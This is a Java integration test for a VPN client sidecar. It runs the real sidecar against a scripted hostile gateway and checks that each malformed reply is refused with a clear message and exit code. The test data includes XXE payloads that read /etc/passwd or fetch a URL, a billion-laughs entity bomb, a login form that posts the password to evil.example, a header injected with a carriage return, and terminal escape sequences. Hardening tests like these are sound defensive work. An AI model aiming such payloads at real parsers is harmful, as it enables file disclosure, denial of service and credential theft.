package dev.corridor.sidecar.hostile;

import static dev.corridor.sidecar.hostile.GatewayReplies.USERNAME_FORM;
import static dev.corridor.sidecar.hostile.GatewayReplies.close;
import static dev.corridor.sidecar.hostile.GatewayReplies.concat;
import static dev.corridor.sidecar.hostile.GatewayReplies.endless;
import static dev.corridor.sidecar.hostile.GatewayReplies.frame;
import static dev.corridor.sidecar.hostile.GatewayReplies.login;
import static dev.corridor.sidecar.hostile.GatewayReplies.ocserv;
import static dev.corridor.sidecar.hostile.GatewayReplies.text;
import static dev.corridor.sidecar.hostile.GatewayReplies.then;
import static dev.corridor.sidecar.hostile.GatewayReplies.trickle;
import static dev.corridor.sidecar.hostile.GatewayReplies.xml;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.corridor.sidecar.hostile.GatewayReplies.ConnectReply;
import dev.corridor.sidecar.hostile.ScriptedGateway.Script;
import dev.corridor.sidecar.protocol.cstp.PacketType;
import dev.corridor.sidecar.testing.GatewayLab;
import dev.corridor.sidecar.testing.NetworkNamespace;
import dev.corridor.sidecar.testing.PodRoutes;
import dev.corridor.sidecar.testing.SidecarProcess;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.channels.ServerSocketChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The real sidecar (the packaged jar, with the container's JVM options and 16 MB heap) against a scripted gateway
 * that sends what ocserv never would: broken and endless HTTP, hostile login XML, absurd CONNECT headers and
 * malformed CSTP frames. Each case ends with a clear message and exit code within a bound, or is ignored while the
 * session carries on; caps are asserted by their messages.
 *
 * <p>Two network namespaces joined by a veth pair: the gateway side (192.0.2.1, the scripted gateway on 443, and
 * canaries for DNS queries and XXE fetches) and the pod side (192.0.2.2, the sidecar, its tun device and routes).
 */
@Timeout(value = 2, unit = TimeUnit.MINUTES)
class HostileGatewayIT {
    private static final InetAddress GATEWAY = ScriptedLab.GATEWAY;
    /** Where an XXE would fetch from: a listener that must never see a connection. */
    private static final int XXE_PORT = 8080;
    /** The sidecar's 30 s I/O timeout (session.Tunnel.IO_TIMEOUT) plus start-up. */
    private static final Duration TRICKLE_BOUND = Duration.ofSeconds(45);
    /** A hang check, not a performance check. */
    private static final Duration BOUND = Duration.ofSeconds(20);

    private static ScriptedLab lab;
    private static NetworkNamespace gatewaySide;
    private static NetworkNamespace podSide;
    private static DatagramChannel dnsCanary;
    private static ServerSocketChannel xxeCanary;
    private ScriptedGateway gateway;
    private SidecarProcess sidecar;

    /** A case: what the gateway does, and how the sidecar must end (exit code, last line) within a bound. */
    record Case(String name, Script script, int exitCode, String message, Duration bound) {
        Case(String name, Script script, int exitCode, String message) {
            this(name, script, exitCode, message, BOUND);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    @BeforeAll
    static void createNamespaces() throws Exception {
        lab = ScriptedLab.create("corh");
        gatewaySide = lab.gatewaySide();
        podSide = lab.podSide();
        dnsCanary = gatewaySide.call(() -> DatagramChannel.open().bind(new InetSocketAddress(GATEWAY, 53)));
        dnsCanary.configureBlocking(false);
        xxeCanary = gatewaySide.call(() -> ServerSocketChannel.open().bind(new InetSocketAddress(GATEWAY, XXE_PORT)));
        xxeCanary.configureBlocking(false);
    }

    @AfterAll
    static void deleteNamespaces() throws Exception {
        for (AutoCloseable resource : new AutoCloseable[] {dnsCanary, xxeCanary, lab}) {
            if (resource != null) {
                resource.close();
            }
        }
    }

    @AfterEach
    void stopAndCheckCanaries() throws Exception {
        if (sidecar != null) {
            sidecar.close();
        }
        if (gateway != null) {
            gateway.close();
        }
        List<SocketAddress> queries = new ArrayList<>();
        for (SocketAddress from; (from = dnsCanary.receive(ByteBuffer.allocate(512))) != null; ) {
            queries.add(from);
        }
        List<SocketChannel> fetches = new ArrayList<>();
        for (SocketChannel fetch; (fetch = xxeCanary.accept()) != null; ) {
            fetches.add(fetch);
            fetch.close();
        }
        assertThat(queries).as("DNS queries from the pod").isEmpty();
        assertThat(fetches).as("fetches of an external entity").isEmpty();
    }

    static Stream<Case> refusedBeforeTheTunnel() {
        String sixHundredLines = "HTTP/1.1 200 OK\r\n" + "X-A: b\r\n".repeat(600) + "\r\n";
        ConnectReply thousandsOfRoutes = ConnectReply.ocserv();
        IntStream.range(0, 5000)
                .forEach(i -> thousandsOfRoutes.adding(
                        "X-CSTP-Split-Include", "10." + (i >> 8) + "." + (i & 0xff) + ".0/255.255.255.0"));
        ConnectReply manyRoutes = ConnectReply.ocserv();
        IntStream.range(0, 600).forEach(i -> manyRoutes.adding("X-CSTP-Split-Include", "10.1." + (i & 0xff) + ".0/24"));
        return Stream.of(
                // HTTP: the gateway's first reply, to POST /
                new Case(
                        "endless header lines",
                        login(endless("HTTP/1.1 200 OK\r\n", "X-Filler: " + "a".repeat(64) + "\r\n")),
                        7,
                        "the gateway's reply to POST / has a head longer than 32768 bytes"),
                new Case(
                        "a header line of megabytes",
                        login(endless("HTTP/1.1 200 OK\r\nX-Banner: ", "a")),
                        7,
                        "the gateway's reply to POST / has a head longer than 32768 bytes"),
                new Case(
                        "600 header lines",
                        login(text(sixHundredLines)),
                        7,
                        "gateway sent an HTTP reply with more than 512 header lines"),
                new Case(
                        "an endless chunked body",
                        login(endless("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", "1\r\na\r\n")),
                        7,
                        "the gateway sent a chunked-encoded body; only Content-Length bodies are supported"),
                new Case(
                        "a Content-Length of 10 GB",
                        login(endless("HTTP/1.1 200 OK\r\nContent-Length: 10000000000\r\n\r\n", "<a/>")),
                        7,
                        "the gateway announced a 10000000000-byte body; at most 1048576 is accepted"),
                new Case(
                        "an endless body without a length",
                        login(endless("HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n\r\n", "<a/>")),
                        7,
                        "the gateway's reply body exceeds 1048576 bytes"),
                new Case(
                        "a body that trickles a byte per second",
                        login(trickle(
                                "HTTP/1.1 200 OK\r\nContent-Length: 300\r\n\r\n",
                                "<".repeat(300),
                                Duration.ofSeconds(1))),
                        5,
                        "the gateway 192.0.2.1 stopped answering",
                        TRICKLE_BOUND),
                new Case(
                        "no HTTP at all",
                        login(text("SSH-2.0-OpenSSH_9.2\r\n\r\n")),
                        7,
                        "gateway sent no HTTP status line: 'SSH-2.0-OpenSSH_9.2'"),
                new Case(
                        "half a head, then the connection closed",
                        login(then(text("HTTP/1.1 200 OK\r\nContent-Le"), close())),
                        7,
                        "the gateway closed the connection instead of answering POST /"),
                new Case(
                        "a cookie with a bare CR (found by fuzzing)",
                        login(text("HTTP/1.1 200 OK\r\nSet-Cookie: webvpncontext=abc\rX-Injected: 1\r\n"
                                + "Content-Length: 0\r\n\r\n")),
                        7,
                        "gateway sent an HTTP head line with a control character (only tab is allowed): 'Set-Cookie: webvpncontext=abc\\x0dX-Injected: 1'"),
                // The login XML
                new Case(
                        "XXE reading a file",
                        login(xml(xxe("file:///etc/passwd"))),
                        7,
                        "gateway login XML contains a DOCTYPE declaration; refused (entities are not accepted from a gateway)"),
                new Case(
                        "XXE fetching a URL",
                        login(xml(xxe("http://" + GATEWAY.getHostAddress() + ":" + XXE_PORT + "/xxe"))),
                        7,
                        "gateway login XML contains a DOCTYPE declaration; refused (entities are not accepted from a gateway)"),
                new Case(
                        "billion laughs",
                        login(xml(billionLaughs())),
                        7,
                        "gateway login XML contains a DOCTYPE declaration; refused (entities are not accepted from a gateway)"),
                new Case(
                        "an undeclared entity",
                        login(xml(form("<message>&xxe;</message>"))),
                        7,
                        "gateway login XML refers to the undeclared entity &xxe; in <message>"),
                new Case(
                        "a select inside a select",
                        login(xml(form("<form><select name=\"x\"><select name=\"group_list\">"
                                + "<option value=\"eng\">eng</option></select></select></form>"))),
                        7,
                        "gateway login form has a <select> inside the <select> 'x'"),
                new Case(
                        "a form that posts the password to another host",
                        login(xml(form("<form method=\"post\" action=\"https://evil.example/steal\">"
                                + "<input type=\"password\" name=\"password\"/></form>"))),
                        7,
                        "the gateway's login form posts to another host (evil.example); refused"),
                new Case("forms without end", request -> USERNAME_FORM, 7, "the gateway sent more than 16 login forms"),
                // The CONNECT reply
                new Case(
                        "no X-CSTP-Address",
                        ocserv(ConnectReply.ocserv().without("X-CSTP-Address").head()),
                        7,
                        "gateway assigned no tunnel address (no X-CSTP-Address in its CONNECT reply)"),
                new Case(
                        "MTU 0",
                        ocserv(ConnectReply.ocserv().with("X-CSTP-MTU", "0").head()),
                        7,
                        "gateway sent X-CSTP-MTU: 0, outside 576..65535"),
                new Case(
                        "MTU 100000",
                        ocserv(ConnectReply.ocserv()
                                .with("X-CSTP-MTU", "100000")
                                .head()),
                        7,
                        "gateway sent X-CSTP-MTU: 100000, outside 576..65535"),
                new Case(
                        "DPD -1",
                        ocserv(ConnectReply.ocserv().with("X-CSTP-DPD", "-1").head()),
                        7,
                        "gateway sent X-CSTP-DPD: -1, outside 0..316224000"),
                new Case(
                        "a garbage netmask",
                        ocserv(ConnectReply.ocserv()
                                .with("X-CSTP-Netmask", "255.255.banana.0")
                                .head()),
                        7,
                        "gateway sent a bad X-CSTP-Netmask: '255.255.banana.0' is not an IP address"),
                new Case(
                        "an IPv6 netmask for an IPv4 address",
                        ocserv(ConnectReply.ocserv()
                                .with("X-CSTP-Netmask", "ffff:ffff:ffff::")
                                .head()),
                        7,
                        "gateway sent a bad X-CSTP-Netmask: 'ffff:ffff:ffff::' is not an IPv4 netmask (such as 255.255.255.0), "
                                + "but X-CSTP-Address 10.99.0.50 is an IPv4 address"),
                new Case(
                        "a DNS server that only looks like an address",
                        ocserv(ConnectReply.ocserv()
                                .with("X-CSTP-DNS", "999.1.1.1")
                                .head()),
                        7,
                        "gateway sent a bad X-CSTP-DNS: '999.1.1.1' is not an IP address"),
                new Case(
                        "a banner of 4 MB",
                        ocserv(ConnectReply.ocserv()
                                .adding("X-CSTP-Banner", "a".repeat(4 << 20))
                                .head()),
                        7,
                        "the gateway's reply to CONNECT /CSCOSSLC/tunnel has a head longer than 32768 bytes"),
                new Case(
                        "5000 split-include routes",
                        ocserv(thousandsOfRoutes.head()),
                        7,
                        "the gateway's reply to CONNECT /CSCOSSLC/tunnel has a head longer than 32768 bytes"),
                new Case(
                        "600 split-include routes",
                        ocserv(manyRoutes.head()),
                        7,
                        "gateway sent an HTTP reply with more than 512 header lines"),
                new Case(
                        "a default route, not allowed",
                        ocserv(ConnectReply.ocserv()
                                .adding("X-CSTP-Split-Include", "0.0.0.0/0.0.0.0")
                                .head()),
                        2,
                        "the gateway sends the split-include route 0.0.0.0/0, which is all traffic, but Corridor does not replace the pod's "
                                + "default route unless allowed (the pod would lose its cluster network): set --allow-default-route "
                                + "(allowDefaultRoute: true) to accept"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void refusedBeforeTheTunnel(Case hostile) throws Exception {
        assertEndsWith(hostile);
        assertThat(sidecar.output()).as("nothing of /etc/passwd is shown").doesNotContain("root:");
    }

    static Stream<Case> endTheSession() {
        String lost = "the session was lost (";
        String gone =
                ") and could not be re-established within 1 s: cannot reach the gateway at 192.0.2.1:443 (192.0.2.1): "
                        + "connecting the TCP connection to 192.0.2.1 port 443: Connection refused (ECONNREFUSED)";
        byte[] header = frame(PacketType.DATA.code(), new byte[0]);
        return Stream.of(
                new Case(
                        "an HTTP reply where a frame belongs",
                        connected(concat(dpd(), "HTTP/1.1 200 OK\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1))),
                        8,
                        lost + "protocol error: bad CSTP frame: header starts 48 54 54 50, expected 53 54 46 01"
                                + gone),
                new Case(
                        "a frame with a nonzero reserved byte",
                        connected(withByte(header, 7, 1)),
                        8,
                        lost + "protocol error: bad CSTP frame: reserved byte is 01, expected 00" + gone),
                new Case(
                        "a length beyond a TLS record",
                        connected(withByte(withByte(header, 4, 0xff), 5, 0xff)),
                        8,
                        lost
                                + "protocol error: bad CSTP frame: payload length 65535 exceeds the 16376 bytes a TLS record can carry"
                                + gone),
                new Case(
                        "a compressed frame that was not negotiated",
                        connected(frame(PacketType.COMPRESSED.code(), new byte[] {0x1f, 0})),
                        8,
                        lost + "protocol error: the gateway sent a compressed packet, but no compression was negotiated"
                                + gone),
                new Case(
                        "a frame cut short",
                        ocserv(then(
                                ConnectReply.ocserv()
                                        .followedBy(Arrays.copyOf(frame(PacketType.DATA.code(), new byte[100]), 50)),
                                close())),
                        8,
                        lost + "connection lost: the gateway closed the connection in the middle of a frame" + gone),
                new Case(
                        "a DISCONNECT reason with escape sequences",
                        connected(frame(
                                PacketType.DISCONNECT.code(),
                                "\u001b[2J\u001b[31mEVIL\r\n".getBytes(StandardCharsets.ISO_8859_1))),
                        8,
                        lost + "gateway disconnected: the gateway disconnected the session ([2J[31mEVIL)" + gone));
    }

    /** The tunnel comes up, then the gateway breaks the CSTP stream; it is gone for the reconnect, so the sidecar gives up. */
    @ParameterizedTest(name = "{0}")
    @MethodSource
    void endTheSession(Case hostile) throws Exception {
        assertEndsWith(hostile);
        assertThat(PodRoutes.of(podSide.name(), "-4"))
                .as("no route is left behind")
                .noneMatch(route -> route.contains("proto 151"));
    }

    /**
     * A protocol error ends the session, not the tunnel: the sidecar reconnects with its cookie (no second login) and
     * the gateway, this time well-behaved, gives the session back.
     */
    @Test
    void aProtocolErrorIsFollowedByAReconnectWithTheCookie() throws Exception {
        AtomicInteger connects = new AtomicInteger();
        Script brokenOnce = request -> request.isConnect() && connects.incrementAndGet() == 1
                ? ConnectReply.ocserv()
                        .followedBy(concat(dpd(), "HTTP/1.1 200 OK\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1)))
                : ocserv(ConnectReply.ocserv().head()).answer(request);
        start(brokenOnce, 2);

        sidecar.awaitReady(BOUND);
        Awaitility.await()
                .atMost(BOUND)
                .untilAsserted(() -> assertThat(connects.get()).isEqualTo(2));
        sidecar.awaitReady(BOUND);
        String metrics = sidecar.httpGet("/metrics");
        assertThat(metrics)
                .contains("corridor_tunnel_reconnects_total{reason=\"protocol_error\"} 1.0")
                .as("the cookie brought the session back: one login in all")
                .contains("corridor_tunnel_authentications_total{outcome=\"success\"} 1.0");
        assertThat(sidecar.status().path("state").asText()).isEqualTo("connected");
        stopCleanly();
    }

    /** Unknown packet types are counted and dropped; the session stays up. */
    @Test
    void anUnknownPacketTypeIsDroppedAndCounted() throws Exception {
        start(connected(
                concat(frame(0x42, "what is this".getBytes(StandardCharsets.US_ASCII)), frame(0xff, new byte[0]))));
        sidecar.awaitReady(BOUND);

        Awaitility.await()
                .atMost(BOUND)
                .untilAsserted(() -> assertThat(sidecar.status()
                                .path("traffic")
                                .path("cstp")
                                .path("packetsDropped")
                                .asLong())
                        .isEqualTo(2));
        assertThat(sidecar.status().path("state").asText()).isEqualTo("connected");
        stopCleanly();
    }

    /**
     * A DATA frame longer than the tunnel MTU the gateway itself set (but within a TLS record) does not end the session:
     * it goes to the kernel like any packet, which judges it (this one, with no header checksum, it drops).
     */
    @Test
    void aPacketLargerThanTheMtuDoesNotEndTheSession() throws Exception {
        start(connected(frame(PacketType.DATA.code(), ipv4Packet(9000))));
        sidecar.awaitReady(BOUND);

        Awaitility.await()
                .atMost(BOUND)
                .untilAsserted(() -> assertThat(sidecar.status()
                                .path("traffic")
                                .path("cstp")
                                .path("bytesReceived")
                                .asLong())
                        .isEqualTo(9000));
        JsonNode status = sidecar.status();
        assertThat(status.path("traffic").path("cstp").path("packetsDropped").asLong())
                .isZero();
        assertThat(status.path("state").asText()).isEqualTo("connected");
        stopCleanly();
    }

    /**
     * A DPD request is answered with a copy of its payload (gateways probe the path MTU with padded ones), but no
     * larger than the tunnel's MTU: one of 16000 bytes is dropped and counted, not copied and queued; a small one is
     * still answered (the session stays up).
     */
    @Test
    void aDpdRequestLargerThanTheMtuIsNotEchoed() throws Exception {
        start(connected(concat(frame(PacketType.DPD_REQUEST.code(), new byte[16000]), dpd())));
        sidecar.awaitReady(BOUND);

        Awaitility.await()
                .atMost(BOUND)
                .untilAsserted(() -> assertThat(sidecar.httpGet("/metrics"))
                        .contains("corridor_tunnel_dropped_packets_total{channel=\"cstp\",reason=\"oversize\"} 1.0"));
        assertThat(sidecar.status().path("state").asText()).isEqualTo("connected");
        stopCleanly();
    }

    /** A packet whose source lies outside the networks routed through the tunnel is dropped and counted: it is spoofed. */
    @Test
    void aPacketFromOutsideTheTunnelsNetworksIsDropped() throws Exception {
        byte[] fromTheInternet = ipv4Packet(60);
        System.arraycopy(new byte[] {8, 8, 8, 8}, 0, fromTheInternet, 12, 4);
        byte[] fromTheCluster = ipv4Packet(60);
        System.arraycopy(new byte[] {10, 42, 0, 7}, 0, fromTheCluster, 12, 4);
        start(
                connected(concat(
                        frame(PacketType.DATA.code(), fromTheInternet), frame(PacketType.DATA.code(), fromTheCluster))),
                "--never-route",
                "10.42.0.0/16");
        sidecar.awaitReady(BOUND);

        Awaitility.await()
                .atMost(BOUND)
                .untilAsserted(
                        () -> assertThat(sidecar.httpGet("/metrics"))
                                .contains(
                                        "corridor_tunnel_dropped_packets_total{channel=\"cstp\",reason=\"spoofed_source\"} 2.0"));
        assertThat(sidecar.status()
                        .path("traffic")
                        .path("cstp")
                        .path("bytesReceived")
                        .asLong())
                .isZero();
        stopCleanly();
    }

    /**
     * Routes that overlap --never-route: a broader split-include stays (the cluster network is more specific and goes
     * around), one inside is refused, and so is the gateway's address pool when it lies in the cluster network.
     */
    @Test
    void routesInsideNeverRouteNetworksAreNotTaken() throws Exception {
        start(
                ocserv(ConnectReply.ocserv()
                        .with("X-CSTP-Address", "10.42.7.9")
                        .with("X-CSTP-Split-Include", "10.0.0.0/255.0.0.0")
                        .adding("X-CSTP-Split-Include", "10.42.5.0/255.255.255.0")
                        .without("X-CSTP-Split-Exclude")
                        .head()),
                "--never-route",
                "10.42.0.0/16");
        sidecar.awaitReady(BOUND);

        assertThat(sidecar.status().path("routes")).extracting(JsonNode::asText).containsExactly("10.0.0.0/8");
        assertThat(PodRoutes.of(podSide.name(), "-4"))
                .containsExactlyInAnyOrder(
                        "default via 192.0.2.1 dev hv-pod",
                        "192.0.2.0/24 dev hv-pod proto kernel",
                        "192.0.2.1 dev hv-pod proto 151",
                        "10.0.0.0/8 dev vpn0 proto 151",
                        "unreachable 10.0.0.0/8 proto 151 metric 1000000",
                        "10.42.0.0/16 via 192.0.2.1 dev hv-pod proto 151");
        assertThat(sidecar.output())
                .contains(
                        "not routing [10.42.5.0/24, 10.42.7.0/24] through the tunnel: inside a never-route or cluster network");
        stopCleanly();
    }

    /** With --allow-default-route, a split-include of 0.0.0.0/0 becomes the two halves and the pod's default route stays. */
    @Test
    void anAllowedDefaultRouteLeavesThePodsOwnDefaultRoute() throws Exception {
        start(
                ocserv(ConnectReply.ocserv()
                        .with("X-CSTP-Split-Include", "0.0.0.0/0.0.0.0")
                        .without("X-CSTP-Split-Exclude")
                        .head()),
                "--allow-default-route",
                "--never-route",
                "10.42.0.0/16");
        sidecar.awaitReady(BOUND);

        assertThat(PodRoutes.of(podSide.name(), "-4"))
                .containsExactlyInAnyOrder(
                        "default via 192.0.2.1 dev hv-pod",
                        "192.0.2.0/24 dev hv-pod proto kernel",
                        "192.0.2.1 dev hv-pod proto 151",
                        "0.0.0.0/1 dev vpn0 proto 151",
                        "128.0.0.0/1 dev vpn0 proto 151",
                        "10.99.0.0/24 dev vpn0 proto 151",
                        "unreachable 0.0.0.0/1 proto 151 metric 1000000",
                        "unreachable 128.0.0.0/1 proto 151 metric 1000000",
                        "unreachable 10.99.0.0/24 proto 151 metric 1000000",
                        "10.42.0.0/16 via 192.0.2.1 dev hv-pod proto 151",
                        // the pod's nameserver and its own link are already routed so; link-local addresses now go
                        // around too
                        "169.254.0.0/16 via 192.0.2.1 dev hv-pod proto 151");
        stopCleanly();
    }

    private void assertEndsWith(Case hostile) throws Exception {
        start(hostile.script());
        long started = System.nanoTime();
        int exitCode = sidecar.awaitExit(hostile.bound());
        Duration took = Duration.ofNanos(System.nanoTime() - started);

        assertThat(lastError(sidecar.output()))
                .as("the sidecar's last word")
                .isEqualTo("corridor-sidecar: " + hostile.message());
        assertThat(exitCode).as("exit code").isEqualTo(hostile.exitCode());
        assertThat(took).as("ended within its bound").isLessThan(hostile.bound());
        assertThat(sidecar.output())
                .as("no stack trace, no OutOfMemoryError")
                .doesNotContain("\tat ", "OutOfMemoryError");
    }

    private void start(Script script, String... options) throws Exception {
        start(script, 1, options);
    }

    /** The gateway serves {@code connections} connections, one after the other, then is gone. */
    private void start(Script script, int connections, String... options) throws Exception {
        gateway = ScriptedGateway.start(gatewaySide, GATEWAY, script, connections);
        List<String> args = new ArrayList<>(List.of(
                "-u",
                "alice",
                "--passwd-on-stdin",
                "--servercert",
                gateway.pin().toString(),
                "--no-dtls",
                "--http-address",
                SidecarProcess.HTTP_ADDRESS,
                "--reconnect-timeout",
                "1"));
        args.addAll(List.of(options));
        args.add("https://" + GATEWAY.getHostAddress() + "/");
        Path jvmOptions = GatewayLab.repositoryRoot().resolve("sidecar/jvm.options");
        sidecar = SidecarProcess.start(
                podSide.name(), "correct-horse\n", List.of("@" + jvmOptions), args.toArray(String[]::new));
    }

    private void stopCleanly() throws Exception {
        sidecar.signal("TERM");
        assertThat(sidecar.awaitExit(BOUND)).isZero();
    }

    private static String lastError(String output) {
        return output.lines()
                .filter(line -> line.startsWith("corridor-sidecar: "))
                .reduce((first, second) -> second)
                .orElse("(none)");
    }

    /** ocserv's login and CONNECT reply, then these CSTP bytes. */
    private static Script connected(byte[] cstp) {
        return ocserv(ConnectReply.ocserv().followedBy(cstp));
    }

    private static byte[] dpd() {
        return frame(PacketType.DPD_REQUEST.code(), new byte[0]);
    }

    private static byte[] withByte(byte[] bytes, int index, int value) {
        byte[] changed = bytes.clone();
        changed[index] = (byte) value;
        return changed;
    }

    /** An IPv4 header claiming {@code length} bytes, from a corporate host to the tunnel address, and zeros. */
    private static byte[] ipv4Packet(int length) {
        byte[] packet = new byte[length];
        packet[0] = 0x45;
        packet[2] = (byte) (length >> 8);
        packet[3] = (byte) length;
        packet[8] = 64;
        packet[9] = 17;
        System.arraycopy(new byte[] {10, 20, 1, 10, 10, 99, 0, 50}, 0, packet, 12, 8);
        return packet;
    }

    private static String form(String inside) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<config-auth client=\"vpn\" type=\"auth-request\">\n<auth id=\"main\">"
                + inside + "</auth></config-auth>\n";
    }

    private static String xxe(String systemId) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE config-auth [<!ENTITY xxe SYSTEM \"" + systemId
                + "\">]>\n"
                + "<config-auth client=\"vpn\" type=\"auth-request\"><auth id=\"main\"><message>&xxe;</message></auth></config-auth>\n";
    }

    private static String billionLaughs() {
        StringBuilder laughs = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i < 10; i++) {
            laughs.append("<!ENTITY lol")
                    .append(i)
                    .append(" \"")
                    .append(("&lol" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return laughs.append(
                        "]>\n<config-auth type=\"auth-request\"><auth id=\"main\"><message>&lol9;</message></auth></config-auth>")
                .toString();
    }
}
